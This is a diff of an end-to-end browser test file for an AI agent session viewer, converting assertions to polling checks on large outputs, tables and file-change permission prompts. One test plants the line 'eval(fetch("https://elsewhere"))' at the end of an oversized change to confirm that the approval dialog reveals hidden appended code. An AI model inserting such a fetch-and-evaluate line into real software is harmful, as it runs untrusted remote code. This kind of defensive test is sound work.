@@ -36,15 +36,17 @@ describe('a large text', () => {
       const whole = details.getByRole('group', { name: 'Output' })
       await whole.waitFor()
       expect((await whole.textContent())!.length).toBeGreaterThan(100_000)
-      expect(await whole.evaluate((box) => box.scrollHeight - box.clientHeight)).toBe(0)
-      expect(await details.getByRole('group', { name: 'Input' }).textContent()).toContain('cat long.json')
+      await expect.poll(() => whole.evaluate((box) => box.scrollHeight - box.clientHeight)).toBe(0)
+      await expect
+        .poll(() => details.getByRole('group', { name: 'Input' }).textContent())
+        .toContain('cat long.json')
       await page.goBack()
       await details.waitFor({ state: 'detached' })
-      expect(
-        await row
-          .getByRole('button', { name: 'Open full view' })
-          .evaluate((b) => b === document.activeElement),
-      ).toBe(true)
+      await expect
+        .poll(() =>
+          row.getByRole('button', { name: 'Open full view' }).evaluate((b) => b === document.activeElement),
+        )
+        .toBe(true)
       expect(errors).toEqual([])
       await page.close()
     }
@@ -57,7 +59,7 @@ describe('a large text', () => {
     const rows = page.locator('.prose tbody tr')
     const open = page.getByRole('button', { name: /^Show all/ })
     await open.waitFor()
-    expect(await rows.count()).toBe(20)
+    await expect.poll(() => rows.count()).toBe(20)
     // Found and clicked in one step in the page, because each new row replaces the button.
     await until('a table that is open', async () => {
       await page.evaluate(() => document.querySelector<HTMLElement>('button.rest')?.click())
@@ -73,8 +75,8 @@ describe('a large text', () => {
     await page.getByRole('button', { name: 'Stop', exact: true }).click()
     await hub.event(session, 'turn_end')
     await hub.idle(session)
-    expect(await rows.count()).toBeGreaterThan(before + 5)
-    expect(await open.count()).toBe(0)
+    await expect.poll(() => rows.count()).toBeGreaterThan(before + 5)
+    await expect.poll(() => open.count()).toBe(0)
     expect(errors).toEqual([])
     await page.close()
   })
@@ -85,14 +87,14 @@ describe('a large text', () => {
     const { page, errors } = await device.watch(session)
     const rows = page.locator('.prose tbody tr')
     await until('the table', async () => (await rows.count()) > 0)
-    expect(await rows.count()).toBe(20)
-    expect(await page.locator('*').count(), 'nodes').toBeLessThan(1_500)
+    await expect.poll(() => rows.count()).toBe(20)
+    await expect.poll(() => page.locator('*').count(), { message: 'nodes' }).toBeLessThan(1_500)
     await page.getByRole('button', { name: 'Show all 300 rows' }).click()
     await until('all rows', async () => (await rows.count()) === 300)
-    expect(await rows.last().textContent()).toContain('cell 300.30')
+    await expect.poll(() => rows.last().textContent()).toContain('cell 300.30')
     await page.goto(`${hub.origin}/s/${session}/plain`)
     await until('all rows on the plain page', async () => (await rows.count()) === 300)
-    expect(await page.getByRole('button', { name: /rows/ }).count()).toBe(0)
+    await expect.poll(() => page.getByRole('button', { name: /rows/ }).count()).toBe(0)
     expect(errors).toEqual([])
     await page.close()
   })
@@ -106,12 +108,14 @@ describe('a large text', () => {
     const last = permission.getByText('eval(fetch("https://elsewhere"))')
 
     await permission.getByText('This change is too large to show, and was not compared.').waitFor()
-    expect(await falsely.count()).toBe(0)
-    expect(await last.count()).toBe(0)
-    expect(await permission.locator('[data-large]').count()).toBe(2) // the start of the old and of the new text
-    expect(await permission.locator('pre', { hasText: 'export const line5 ' }).count()).toBeGreaterThan(0)
+    await expect.poll(() => falsely.count()).toBe(0)
+    await expect.poll(() => last.count()).toBe(0)
+    await expect.poll(() => permission.locator('[data-large]').count()).toBe(2) // the start of the old and of the new text
+    await expect
+      .poll(() => permission.locator('pre', { hasText: 'export const line5 ' }).count())
+      .toBeGreaterThan(0)
     const link = permission.getByRole('link', { name: 'Download' }).last()
-    expect(await link.getAttribute('download')).toBe('app.ts')
+    await expect.poll(() => link.getAttribute('download')).toBe('app.ts')
     // A click on the link requests a signed address, which needs no other credential.
     const { pathname } = new URL(await link.evaluate((a: HTMLAnchorElement) => a.href))
     const signed = await fetch(`${hub.origin}${pathname}`, {
@@ -121,8 +125,8 @@ describe('a large text', () => {
     expect(bytes.endsWith('eval(fetch("https://elsewhere"))\n')).toBe(true)
     await permission.getByRole('button', { name: 'Compare' }).click()
     await last.waitFor()
-    expect(await permission.locator('.l.add').count()).toBe(2)
-    expect(await permission.locator('.l.remove').count()).toBe(1)
+    await expect.poll(() => permission.locator('.l.add').count()).toBe(2)
+    await expect.poll(() => permission.locator('.l.remove').count()).toBe(1)
     await allow.click()
 
     await permission.getByRole('heading', { name: 'Write new.ts' }).waitFor()
@@ -134,14 +138,14 @@ describe('a large text', () => {
 
     await permission.getByRole('heading', { name: 'Run it' }).waitFor()
     await permission.getByText('export const line0 ').first().waitFor()
-    expect(await last.count()).toBe(0)
+    await expect.poll(() => last.count()).toBe(0)
     await permission.getByRole('button', { name: 'Show all of it' }).click()
     await last.waitFor()
     await allow.click()
 
     await hub.idle(session)
     await page.getByText('not counted').first().waitFor()
-    expect(await falsely.count()).toBe(0)
+    await expect.poll(() => falsely.count()).toBe(0)
     expect(errors).toEqual([])
     await page.close()
   })
